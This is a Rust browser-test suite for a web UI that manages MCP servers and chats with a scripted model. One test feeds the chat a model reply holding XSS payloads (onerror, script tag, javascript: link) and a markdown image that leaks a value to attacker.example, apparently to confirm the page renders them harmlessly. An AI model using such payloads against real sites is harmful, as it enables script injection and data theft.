//! The web UI in a real browser: headless Chromium (Debian's, driven by playwright-core from
//! the pinned test peers) against a real `switchboard serve` whose model is the scripted LLM
//! and whose MCP server is server-everything over stdio. Each test runs one scenario script
//! from `web/tests/browser/` and then checks, through the API and the model's requests, that
//! what the person did in the page really happened. Screenshots go to
//! `$CARGO_TARGET_TMPDIR/ui-screenshots/`.

// Test code: a failed unwrap is a failed test.
#![allow(clippy::unwrap_used)]

use crate::common;

use std::path::{Path, PathBuf};

use common::Switchboard;
use common::serve::{Served, serve_with_env, terminate};
use serde_json::{Value, json};
use switchboard_testkit::{EverythingHttp, Peers, ScriptedLlm, Turn, process};

struct Ui {
    sb: Switchboard,
    served: Served,
    llm: ScriptedLlm,
    peers: Peers,
}

impl Ui {
    /// `serve` with its model scripted by `turns` (over the OpenAI wire format).
    async fn start(turns: Vec<Turn>) -> Ui {
        Ui::start_with_settings(turns, None).await
    }

    /// [`Ui::start`] with `settings` as the data directory's `switchboard.toml`.
    async fn start_with_settings(turns: Vec<Turn>, settings: Option<&str>) -> Ui {
        Ui::start_with(turns, settings, None).await
    }

    /// [`Ui::start_with_settings`], with `path` first on `serve`'s `PATH` (so a server's
    /// command can be named as a person would write it).
    async fn start_with(turns: Vec<Turn>, settings: Option<&str>, path: Option<&Path>) -> Ui {
        let search_path = match path {
            Some(first) => format!(
                "{}:{}",
                first.display(),
                std::env::var("PATH").unwrap_or_default()
            ),
            None => std::env::var("PATH").unwrap_or_default(),
        };
        Ui::start_on_path(turns, settings, &search_path).await
    }

    /// [`Ui::start_with_settings`], with `search_path` as `serve`'s whole `PATH`.
    async fn start_on_path(turns: Vec<Turn>, settings: Option<&str>, search_path: &str) -> Ui {
        let peers = Peers::locate();
        let llm = ScriptedLlm::start(turns).await;
        let sb = Switchboard::new();
        if let Some(settings) = settings {
            std::fs::create_dir_all(sb.data_dir()).unwrap();
            std::fs::write(sb.data_dir().join("switchboard.toml"), settings).unwrap();
        }
        let base_url = llm.openai_base_url();
        let served = serve_with_env(
            &sb,
            &[],
            &[
                ("OPENAI_API_KEY", "sk-test"),
                ("OPENAI_BASE_URL", &base_url),
                ("OPENAI_MODEL", "scripted"),
                ("PATH", search_path),
            ],
        );
        Ui {
            sb,
            served,
            llm,
            peers,
        }
    }

    async fn api(&self, method: reqwest::Method, path: &str, body: Option<Value>) -> Value {
        let mut request = reqwest::Client::new()
            .request(method, format!("{}{path}", self.served.base))
            .bearer_auth(self.served.token.as_deref().unwrap());
        if let Some(body) = body {
            request = request.json(&body);
        }
        let response = request.send().await.unwrap();
        let status = response.status();
        let value = response.json().await.unwrap_or(Value::Null);
        assert!(status.is_success(), "{path}: {status} {value}");
        value
    }

    /// server-everything over stdio, added through the API (the settings scenario adds it
    /// through the page instead).
    async fn add_everything(&self) {
        let command = self.peers.everything_stdio();
        self.api(
            reqwest::Method::POST,
            "/api/mcp-servers",
            Some(json!({
                "name": "everything",
                "transport": "stdio",
                "command": command.program,
                "args": command.args,
            })),
        )
        .await;
    }

    /// Runs `web/tests/browser/<name>.mjs` against this server; fails the test with what it
    /// printed when the scenario fails.
    async fn scenario(&self, name: &str) {
        self.scenario_with(name, &[]).await;
    }

    /// [`Ui::scenario`] with more variables for the script.
    async fn scenario_with(&self, name: &str, env: &[(&str, String)]) {
        let chromium = chromium();
        let command = self.peers.everything_stdio();
        let script = web_dir().join("tests/browser").join(format!("{name}.mjs"));
        let output = tokio::process::Command::new("node")
            .arg(&script)
            .env("SB_URL", &self.served.base)
            .env("SB_TOKEN", self.served.token.as_deref().unwrap())
            .env("SB_SCREENSHOTS", screenshots_dir())
            .env(
                "SB_EVERYTHING",
                json!({"program": command.program, "args": command.args}).to_string(),
            )
            .env("SWITCHBOARD_PEERS", self.peers.root())
            .env("SWITCHBOARD_CHROMIUM", chromium)
            .envs(env.iter().map(|(k, v)| (*k, v.as_str())))
            .kill_on_drop(true)
            .output()
            .await
            .expect("run node (Node.js is needed for the browser tests)");
        assert!(
            output.status.success(),
            "scenario {name} failed:\n{}\n{}",
            String::from_utf8_lossy(&output.stdout),
            String::from_utf8_lossy(&output.stderr)
        );
    }

    /// Ends `serve` and checks that no MCP server it started outlived it.
    fn stop(mut self) {
        let children = process::descendants(self.served.child.id());
        assert!(terminate(&mut self.served).success());
        for pid in children {
            assert!(!process::alive(pid), "MCP child {pid} outlived serve");
        }
    }
}

fn web_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../web")
}

fn screenshots_dir() -> PathBuf {
    Path::new(env!("CARGO_TARGET_TMPDIR")).join("ui-screenshots")
}

/// Debian's Chromium, which scripts/test.sh installs (or `SWITCHBOARD_CHROMIUM`).
fn chromium() -> PathBuf {
    let path = std::env::var_os("SWITCHBOARD_CHROMIUM")
        .map_or_else(|| PathBuf::from("/usr/bin/chromium"), PathBuf::from);
    assert!(
        path.exists(),
        "{} is missing: scripts/test.sh installs Debian's chromium for the browser tests \
         (or point SWITCHBOARD_CHROMIUM at one)",
        path.display()
    );
    path
}

#[tokio::test(flavor = "multi_thread")]
async fn settings_add_test_switch_try_and_import_servers() {
    let ui = Ui::start(vec![]).await;
    ui.scenario("settings").await;

    let server = ui
        .api(reqwest::Method::GET, "/api/mcp-servers/everything", None)
        .await;
    assert_eq!(server["disabledTools"], json!(["get-env"]), "{server}");
    assert_eq!(server["autoApprovedTools"], json!(["echo"]), "{server}");
    assert_eq!(server["timeout"], json!(30), "{server}");
    let imported = ui
        .api(reqwest::Method::GET, "/api/mcp-servers/remote-docs", None)
        .await;
    assert_eq!(imported["url"], "https://mcp.example.com/mcp", "{imported}");
    assert!(ui.llm.requests().is_empty(), "no model was asked");
    ui.stop();
}

#[tokio::test(flavor = "multi_thread")]
async fn settings_make_a_gateway_view_and_a_token_limited_to_it() {
    let ui = Ui::start(vec![]).await;
    ui.add_everything().await;
    let pasted = tempfile::tempdir().unwrap();
    let snippet = pasted.path().join("claude_desktop_config.json");
    ui.scenario_with("gateway", &[("SB_SNIPPET", snippet.display().to_string())])
        .await;

    // Claude Desktop's snippet as copied, started from another folder with the official
    // Python SDK's stdio client (which passes the command only a minimal environment): it
    // reaches the admin's view on the server's data.
    let config: Value = serde_json::from_str(&std::fs::read_to_string(&snippet).unwrap()).unwrap();
    let launch = &config["mcpServers"]["switchboard"];
    let mut args = vec![
        "stdio".to_owned(),
        "--plan".to_owned(),
        json!([{"name": "desktop", "prefix": "", "echo": ["echo", {"message": "pasted"}, "pasted"]}])
            .to_string(),
        "--".to_owned(),
        launch["command"].as_str().unwrap().to_owned(),
    ];
    args.extend(
        launch["args"]
            .as_array()
            .unwrap()
            .iter()
            .map(|a| a.as_str().unwrap().to_owned()),
    );
    let elsewhere = tempfile::tempdir().unwrap();
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let report =
        common::gateway::interop_client_in(switchboard_testkit::PyGen::V1, elsewhere.path(), &args)
            .unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(
        report["desktop"]["tools"],
        json!(["echo", "get-sum"]),
        "{report}"
    );
    assert_eq!(report["desktop"]["echo"]["ok"], json!(true), "{report}");
    assert!(
        std::fs::read_dir(elsewhere.path())
            .unwrap()
            .next()
            .is_none(),
        "nothing was made in the folder it started in"
    );

    let views = ui.api(reqwest::Method::GET, "/api/mcp/views", None).await;
    assert_eq!(views.as_array().unwrap().len(), 1, "{views}");
    let view = &views[0];
    assert_eq!(view["name"], "desktop", "{view}");
    assert_eq!(
        view["servers"],
        json!([{"serverId": "everything", "tools": ["echo", "get-sum"], "prefix": ""}]),
        "{view}"
    );
    let tokens = ui
        .api(
            reqwest::Method::GET,
            &format!("/api/mcp/views/{}/tokens", view["id"].as_str().unwrap()),
            None,
        )
        .await;
    assert_eq!(tokens.as_array().unwrap().len(), 1, "{tokens}");
    assert_eq!(tokens[0]["label"], "Claude Desktop", "{tokens}");
    ui.stop();
}

#[tokio::test(flavor = "multi_thread")]
async fn settings_add_servers_from_the_catalogue() {
    let ui = Ui::start(vec![]).await;
    let root = tempfile::tempdir().unwrap();
    let root_path = root.path().to_string_lossy().into_owned();
    ui.scenario_with("catalogue", &[("SB_ROOT", root_path.clone())])
        .await;

    let server = ui
        .api(reqwest::Method::GET, "/api/mcp-servers/filesystem", None)
        .await;
    assert_eq!(server["command"], "npx", "{server}");
    assert_eq!(server["args"][2], json!(root_path), "{server}");
    let search = ui
        .api(
            reqwest::Method::GET,
            "/api/mcp-servers/modelscope-search",
            None,
        )
        .await;
    assert_eq!(search["auth"]["type"], "bearer", "{search}");
    assert!(
        !search.to_string().contains("ms-browser-secret"),
        "{search}"
    );
    let marks = ui
        .api(reqwest::Method::GET, "/api/catalogue/servers", None)
        .await;
    assert_eq!(
        marks,
        json!([
            {"serverId": "filesystem", "presetType": "reference"},
            {"serverId": "modelscope-search", "presetType": "modelscope"},
        ])
    );
    ui.stop();
}

/// On a machine without Node.js (`serve`'s PATH holds `uvx` and no `npx`), the catalogue's npx
/// entries say so, with what to install, before anyone clicks Set up.
#[tokio::test(flavor = "multi_thread")]
async fn the_catalogue_says_which_launchers_are_missing_here() {
    let bin = tempfile::tempdir().unwrap();
    let uvx = bin.path().join("uvx");
    std::fs::write(&uvx, "#!/bin/sh\nexit 1\n").unwrap();
    std::fs::set_permissions(&uvx, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let ui = Ui::start_on_path(vec![], None, &bin.path().to_string_lossy()).await;
    let entries = ui.api(reqwest::Method::GET, "/api/catalogue", None).await;
    let entry = |name: &str| {
        entries
            .as_array()
            .unwrap()
            .iter()
            .find(|e| e["name"] == name)
            .unwrap_or_else(|| panic!("no {name} in {entries}"))
            .clone()
    };
    assert_eq!(
        entry("filesystem")["missingLauncher"],
        json!({"command": "npx", "advice": "install_node"})
    );
    assert!(entry("git").get("missingLauncher").is_none(), "{entries}");
    assert!(
        entry("modelscope-search").get("missingLauncher").is_none(),
        "{entries}"
    );
    ui.scenario("catalogue-launchers").await;
    ui.stop();
}

#[tokio::test(flavor = "multi_thread")]
async fn chat_with_an_assistant_approving_and_rejecting_calls() {
    let answer = "All three handled: **approved** echo and the image, rejected the sum.\n\n\
                  <img src=x onerror=\"window.__pwned=1\"><script>window.__pwned=2</script>\
                  [a link](javascript:window.__pwned=3) ![leak](https://attacker.example/?q=secret)";
    let ui = Ui::start(vec![
        Turn::tool_calls(vec![
            ("mcp__everything__echo", json!({"message": "hello"})),
            ("mcp__everything__get-tiny-image", json!({})),
            ("mcp__everything__get-sum", json!({"a": 2, "b": 3})),
        ]),
        Turn::text(answer),
    ])
    .await;
    ui.add_everything().await;
    ui.scenario("chat").await;

    let requests = ui.llm.requests();
    assert_eq!(
        requests.len(),
        2,
        "asked once for tools, once for the answer"
    );
    let first = requests[0].body.to_string();
    assert!(
        first.contains("You help with sums."),
        "the assistant's prompt"
    );
    let second = requests[1].body.to_string();
    assert!(
        second.contains("Echo: hello"),
        "the approved result: {second}"
    );
    assert!(
        second.contains("REJECTED") || second.contains("rejected"),
        "{second}"
    );
    assert!(
        !second.contains("The sum of"),
        "the rejected call did not run"
    );
    ui.stop();
}

/// A chat whose servers include one that cannot be reached (a Streamable HTTP URL on a closed
/// loopback port): the page names it above the answer, in words and in the reader's
/// language, also after a reload, and the model is offered the other server's tools.
#[tokio::test(flavor = "multi_thread")]
async fn a_server_that_cannot_be_reached_is_named_above_the_answer() {
    let ui = Ui::start(vec![Turn::text("Answered without GitHub.")]).await;
    ui.add_everything().await;
    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}/mcp", closed.local_addr().unwrap());
    drop(closed);
    ui.api(
        reqwest::Method::POST,
        "/api/mcp-servers",
        Some(json!({"name": "GitHub", "transport": "streamable_http", "url": url})),
    )
    .await;
    ui.scenario("left-out").await;

    let requests = ui.llm.requests();
    assert_eq!(requests.len(), 1, "one turn, one model request");
    let offered = requests[0].body["tools"].to_string();
    assert!(offered.contains("mcp__everything__echo"), "{offered}");
    assert!(!offered.contains("mcp__github__"), "{offered}");
    ui.stop();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_reload_keeps_a_pending_approval_stop_cancels_and_a_failure_shows() {
    let ui = Ui::start(vec![
        Turn::tool_call(
            "mcp__everything__echo",
            json!({"message": "after a reload"}),
        ),
        Turn::text("Echoed after the reload."),
        Turn::tool_call("mcp__everything__echo", json!({"message": "never"})),
        Turn::error(401, "key rejected"),
    ])
    .await;
    ui.add_everything().await;
    ui.scenario("reload").await;

    let requests = ui.llm.requests();
    assert_eq!(requests.len(), 4, "the stopped run asked nothing more");
    assert!(
        requests[1]
            .body
            .to_string()
            .contains("Echo: after a reload")
    );
    ui.stop();
}

#[tokio::test(flavor = "multi_thread")]
async fn providers_and_server_credentials_stay_masked_and_are_kept() {
    let ui = Ui::start(vec![Turn::text("Hi from the keyed provider.")]).await;
    let mut http = ui
        .peers
        .everything_http(EverythingHttp::StreamableHttp)
        .await
        .unwrap();
    ui.scenario_with(
        "secrets",
        &[
            ("SB_LLM_URL", ui.llm.openai_base_url()),
            ("SB_EVERYTHING_HTTP", http.url()),
        ],
    )
    .await;

    // The key typed once, then saved back masked, is the one the model was called with.
    let requests = ui.llm.requests();
    assert_eq!(requests.len(), 1);
    assert_eq!(
        requests[0].header("authorization"),
        Some("Bearer sk-ui-secret-4711")
    );
    assert_eq!(requests[0].body["model"], "scripted-ui-2");
    let server = ui
        .api(reqwest::Method::GET, "/api/mcp-servers/remote", None)
        .await;
    assert_eq!(
        server["auth"],
        json!({"type": "bearer", "token": "********"})
    );
    assert_eq!(server["headers"], json!({"X-Team": "********"}));
    let providers = ui.api(reqwest::Method::GET, "/api/providers", None).await;
    let assistants = ui.api(reqwest::Method::GET, "/api/assistants", None).await;
    assert_eq!(
        (providers, assistants),
        (json!([]), json!([])),
        "deleted in the page"
    );
    http.kill().await.unwrap();
    ui.stop();
}

#[tokio::test(flavor = "multi_thread")]
async fn the_page_follows_the_browsers_language_and_the_switch_is_kept_for_the_user() {
    let ui = Ui::start(vec![]).await;
    ui.scenario("language").await;
    let me = ui.api(reqwest::Method::GET, "/api/me", None).await;
    assert_eq!(me["locale"], "en-US", "{me}");
    ui.stop();
}

/// Seed 002's tool nodes from the page: the echo of the built-in demo server with `text`
/// mapped to the assistant's variable and `steps` fixed. The model is offered echo without
/// either parameter, calls it with nothing, and the tool answers with the value the
/// conversation's variables panel set.
#[tokio::test(flavor = "multi_thread")]
async fn a_tool_node_configured_run_and_chatted_with_in_the_page() {
    let ui = Ui::start(vec![
        Turn::tool_call("mcp__demo__echo", json!({})),
        Turn::text("Greeted."),
    ])
    .await;
    ui.scenario("tool-nodes").await;

    let assistants = ui.api(reqwest::Method::GET, "/api/assistants", None).await;
    let assistant = &assistants[0];
    assert_eq!(
        assistant["variables"],
        json!([{"name": "greeting", "type": "string", "default": "Hello"}]),
        "{assistant}"
    );
    let id = assistant["id"].as_str().unwrap();
    let nodes = ui
        .api(
            reqwest::Method::GET,
            &format!("/api/assistants/{id}/tool-nodes"),
            None,
        )
        .await;
    let node = &nodes[0];
    assert_eq!(node["name"], "Greet", "{node}");
    assert_eq!(node["serverId"], "demo", "{node}");
    assert_eq!(node["retryOnError"], true, "{node}");
    assert_eq!(node["maxRetries"], 2, "{node}");
    assert_eq!(node["timeoutMs"], 20000, "{node}");
    assert_eq!(
        node["selectedTools"],
        json!([{"name": "echo", "enabled": true,
                "parameterMappings": {"text": "{{greeting}}", "steps": 1}}]),
        "{node}"
    );

    let requests = ui.llm.requests();
    assert_eq!(
        requests.len(),
        2,
        "asked once for tools, once for the answer"
    );
    let tools = requests[0].body["tools"].as_array().unwrap();
    let echo = tools
        .iter()
        .find(|t| t["function"]["name"] == "mcp__demo__echo")
        .unwrap_or_else(|| panic!("echo is offered: {tools:?}"));
    let properties = &echo["function"]["parameters"]["properties"];
    assert!(properties.get("text").is_none(), "mapped: {echo}");
    assert!(properties.get("steps").is_none(), "mapped: {echo}");
    assert!(
        properties.get("delay_ms").is_some(),
        "the model decides: {echo}"
    );
    let second = requests[1].body.to_string();
    assert!(
        second.contains("Bonjour"),
        "the conversation's value reached the tool: {second}"
    );
    ui.stop();
}

/// MCP nodes in the page: with an MCP node configured (nothing listens at its address, so it
/// is down), the server dialog offers "Runs on" with this machine and the node; a server
/// saved on the node shows "on build-box" and the node's health on its card, and editing it
/// keeps the node. The API stored the node with the server.
#[tokio::test(flavor = "multi_thread")]
async fn settings_put_a_server_on_a_node_and_show_the_nodes_health() {
    // A loopback port nothing listens on: bound, then freed.
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let settings =
        format!("[nodes.build-box]\nurl = \"http://127.0.0.1:{port}\"\ntoken = \"node-token\"\n");
    let ui = Ui::start_with_settings(vec![], Some(&settings)).await;
    ui.scenario("nodes").await;

    let server = ui
        .api(reqwest::Method::GET, "/api/mcp-servers/remote", None)
        .await;
    assert_eq!(server["node"], "build-box", "{server}");
    assert_eq!(server["timeout"], json!(20), "{server}");
    let nodes = ui.api(reqwest::Method::GET, "/api/nodes", None).await;
    assert_eq!(nodes[0]["name"], "build-box", "{nodes}");
    assert_eq!(nodes[0]["state"], "down", "{nodes}");
    ui.stop();
}

/// OAuth sign-in in the page: an OAuth server (the Python SDK's authorization server, with a
/// sign-in page) is signed into from its card in Chromium, the approval made on the
/// authorization server's page in a new tab; then its tool answers with the person's token.
#[tokio::test(flavor = "multi_thread")]
async fn settings_sign_in_to_an_oauth_server_in_a_new_tab() {
    let ui = Ui::start(vec![]).await;
    let mut peer = ui.peers.oauth_http(false, 3600).await.unwrap();
    ui.api(
        reqwest::Method::POST,
        "/api/mcp-servers",
        Some(json!({
            "name": "notes",
            "transport": "streamable_http",
            "url": peer.url(),
            "auth": {"type": "oauth"},
        })),
    )
    .await;
    ui.scenario("oauth").await;

    let called = ui
        .api(
            reqwest::Method::POST,
            "/api/mcp/tools/call",
            Some(json!({"serverId": "notes", "toolName": "whoami"})),
        )
        .await;
    assert_eq!(called["content"][0]["text"], "signed in", "{called}");
    peer.kill().await.unwrap();
    ui.stop();
}

/// Elicitation in the page: a server's question in the middle of a chat call (server-everything's
/// `trigger-elicitation-request`, auto-approved) shows inline as a form prefilled from its
/// defaults; the person fills it in and accepts; the tool's answer and the model's reply show.
#[tokio::test(flavor = "multi_thread")]
async fn chat_a_servers_question_is_answered_in_the_page() {
    let ui = Ui::start(vec![
        Turn::tool_call("mcp__everything__trigger-elicitation-request", json!({})),
        Turn::text("Thanks, noted."),
    ])
    .await;
    helper_with_everything(&ui, Some("trigger-elicitation-request")).await;
    ui.scenario("question").await;

    let requests = ui.llm.requests();
    assert_eq!(requests.len(), 2);
    let second = requests[1].body.to_string();
    assert!(second.contains("Ada Lovelace"), "{second}");
    ui.stop();
}

/// An assistant "Helper" using the everything server, with `tool` auto-approved when given.
async fn helper_with_everything(ui: &Ui, tool: Option<&str>) {
    ui.add_everything().await;
    if let Some(tool) = tool {
        ui.api(
            reqwest::Method::PUT,
            &format!("/api/mcp-servers/everything/tools/{tool}"),
            Some(json!({"enabled": true, "autoApprove": true})),
        )
        .await;
    }
    let assistant = ui
        .api(
            reqwest::Method::POST,
            "/api/assistants",
            Some(json!({"name": "Helper", "toolMode": "native"})),
        )
        .await;
    let id = assistant["id"].as_str().unwrap();
    ui.api(
        reqwest::Method::PUT,
        &format!("/api/assistants/{id}/mcp-servers"),
        Some(json!({"serverIds": ["everything"]})),
    )
    .await;
}

/// A server's sampling request reviewed in the page: edited, answered by the
/// assistant's model, the answer edited and returned to the server.
#[tokio::test(flavor = "multi_thread")]
async fn chat_a_servers_sampling_request_is_reviewed_in_the_page() {
    let ui = Ui::start(vec![
        Turn::tool_call(
            "mcp__everything__trigger-sampling-request",
            json!({"prompt": "What is 2+2?"}),
        ),
        Turn::text("4"),
        Turn::text("The server's model was asked."),
    ])
    .await;
    helper_with_everything(&ui, Some("trigger-sampling-request")).await;
    ui.scenario("sampling").await;

    let requests = ui.llm.requests();
    assert_eq!(requests.len(), 3);
    let sampled = requests[1].body.to_string();
    assert!(
        sampled.contains("What is 3+3?"),
        "the edit was sent: {sampled}"
    );
    let last = requests[2].body.to_string();
    assert!(
        last.contains("six"),
        "the edited answer reached the server: {last}"
    );
    ui.stop();
}

/// A resource attached from the composer and a prompt used as a slash command:
/// what the model is sent holds both resources' contents and the prompt's message.
#[tokio::test(flavor = "multi_thread")]
async fn chat_attaches_resources_and_uses_a_prompt_as_a_slash_command() {
    let ui = Ui::start(vec![
        Turn::text("Read both."),
        Turn::text("Sunny in Lisbon."),
    ])
    .await;
    helper_with_everything(&ui, None).await;
    ui.scenario("composer").await;

    let requests = ui.llm.requests();
    assert_eq!(requests.len(), 2);
    let sent = requests[1].body.to_string();
    assert!(sent.contains("What's weather in Lisbon?"), "{sent}");
    assert!(
        sent.contains("uri=\\\"demo://resource/static/document/architecture.md\\\""),
        "{sent}"
    );
    assert!(
        sent.contains("Resource 42: This is a plaintext resource"),
        "{sent}"
    );
    ui.stop();
}

/// The conversation list (grouped by date, searched, renamed), the first screen's box and the
/// phone layout.
mod conversations;
/// Deferred tools: each server's cost, the tool search, an assistant's exposure and pins, and
/// a model's search shown inline.
mod deferred;
/// Providers tested and found on this machine, and the chat header's model picker.
mod providers;
/// The README's screenshots, from a realistic session.
mod readme;
/// Turns run again and what a turn shows: retry, edit and resend, regenerate, the approval
/// card of a tool node's call.
mod turns;
